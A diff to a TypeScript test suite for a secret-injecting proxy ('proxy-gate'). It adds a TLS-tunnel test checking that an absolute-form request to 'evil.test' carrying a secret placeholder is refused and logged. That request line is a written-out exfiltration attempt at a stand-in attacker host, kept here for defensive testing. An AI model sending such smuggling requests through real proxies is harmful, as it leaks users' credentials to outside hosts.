@@ -1,12 +1,16 @@
 // Review of secrets on the wire, with real sockets: a real proxy-gate, real origins (TLS ones behind
 // opened tunnels) that record what they received and answer as some servers do. Each test is one
 // way the value could reach a place it must not: the network in cleartext, the workload itself.
+import { connect as netConnect } from 'node:net'
+import { connect as tlsConnect, type TLSSocket } from 'node:tls'
 import { join } from 'node:path'
-import t from 'tap'
+import t, { type Test } from 'tap'
+import { createCa, type Ca } from '../lib/certs/ca.js'
 import { armSecrets } from '../lib/secrets/values.js'
 import type { Config } from '../lib/rules/config.js'
 import { tempDir } from './helpers/files.js'
-import { rawExchange, startHttpUpstream, statusOf } from './helpers/net.js'
+import { connectHead } from './helpers/http.js'
+import { rawExchange, startHttpUpstream, startHttpsUpstream, statusOf } from './helpers/net.js'
 import { startDns } from './helpers/dns.js'
 import { configFrom, logLine, startProxy } from './helpers/proxy.js'
 
@@ -19,6 +23,31 @@ function armer(name: string): (c: Config) => Config {
     if (!result.ok) throw new Error(result.error)
     return result.value
   }
+}
+
+/** A TLS connection to `name:port` through proxy-gate's CONNECT, trusting its CA (an opened tunnel). */
+function opened(proxyPort: number, name: string, port: number, ca: Ca): Promise<TLSSocket> {
+  return new Promise((resolve, reject) => {
+    const raw = netConnect({ host: '127.0.0.1', port: proxyPort })
+    raw.once('error', reject)
+    raw.once('data', (d) => {
+      if (!d.toString().startsWith('HTTP/1.1 200')) return reject(new Error(d.toString()))
+      const socket = tlsConnect({ socket: raw, servername: name, ca: ca.certPem })
+      socket.once('secureConnect', () => resolve(socket))
+      socket.once('error', reject)
+    })
+    raw.write(connectHead(`${name}:${port}`))
+  })
+}
+
+/** Writes a request on the socket and reads until the server closes it (requests say Connection: close). */
+function exchange(socket: TLSSocket, request: string): Promise<string> {
+  return new Promise((resolve) => {
+    const chunks: Buffer[] = []
+    socket.on('data', (c: Buffer) => chunks.push(c))
+    socket.once('close', () => resolve(Buffer.concat(chunks).toString('latin1')))
+    socket.write(request)
+  })
 }
 
 t.test('plain HTTP to a bound host on a TLS port: the value is never sent in cleartext', async (t) => {
@@ -44,5 +73,40 @@ t.test('plain HTTP to a bound host on a TLS port: the value is never sent in cle
   t.same(origin.requests.map((r) => r.headers.authorization), [], 'nothing went out in cleartext')
   const line = await logLine(proxy, (l) => l.reason === 'secret-misplaced', 'the refusal')
   t.match(line, { secret: 'GH', decision: 'deny', detail: /cleartext/ })
+  t.notOk(JSON.stringify(proxy.logs()).includes(VALUE))
+})
+
+/** A bound origin over TLS answering as `handle` does, and a proxy-gate whose secret GH is bound to it. */
+async function boundOrigin(t: Test, name: string, handle: Parameters<typeof startHttpsUpstream>[2]) {
+  const ca = await createCa()
+  const origin = await startHttpsUpstream('127.0.0.1', ['api.bound.test'], handle)
+  const dns = await startDns({ 'api.bound.test': { A: ['127.0.0.1'] } })
+  const arm = armer(name)
+  const rules = {
+    allow: [`api.bound.test:${origin.port}`, `127.0.0.1:${origin.port}`],
+    dns: { servers: [dns.server] },
+    tls: { ports: [origin.port] },
+    secrets: { GH: { from: 'env:V', hosts: [`api.bound.test:${origin.port}`] } },
+  }
+  const proxy = await startProxy(rules, { ca, upstreamCa: [origin.tls.cert], arm })
+  t.teardown(async () => {
+    await proxy.close()
+    await Promise.all([origin.close(), dns.close()])
+  })
+  const placeholder = arm(configFrom(rules)).policy.secrets?.[0]?.placeholder ?? ''
+  const send = async (lines: string[]): Promise<string> => exchange(await opened(proxy.port, 'api.bound.test', origin.port, ca), [...lines, 'Connection: close', '', ''].join('\r\n'))
+  return { origin, proxy, placeholder, send }
+}
+
+t.test('an absolute-form request-target inside an opened tunnel never carries the value to the host it names', async (t) => {
+  const { origin, proxy, placeholder, send } = await boundOrigin(t, 'review-secrets-absolute', undefined)
+  const host = `Host: api.bound.test:${origin.port}`
+  const text = await send([`GET https://evil.test/x?k=${placeholder} HTTP/1.1`, host])
+  t.equal(statusOf(text), 403, 'refused: the origin would read the host from the target, not from Host')
+  t.same(origin.requests, [], 'nothing reached the bound host either')
+  const line = await logLine(proxy, (l) => l.reason === 'secret-misplaced', 'the refusal')
+  t.match(line, { secret: 'GH', decision: 'deny', intercepted: true, detail: /absolute-form/ })
+  t.equal(statusOf(await send([`GET /x?k=${placeholder} HTTP/1.1`, host])), 200, 'origin-form still gets the value')
+  t.same(origin.requests.map((r) => r.url), [`/x?k=${VALUE}`])
   t.notOk(JSON.stringify(proxy.logs()).includes(VALUE))
 })
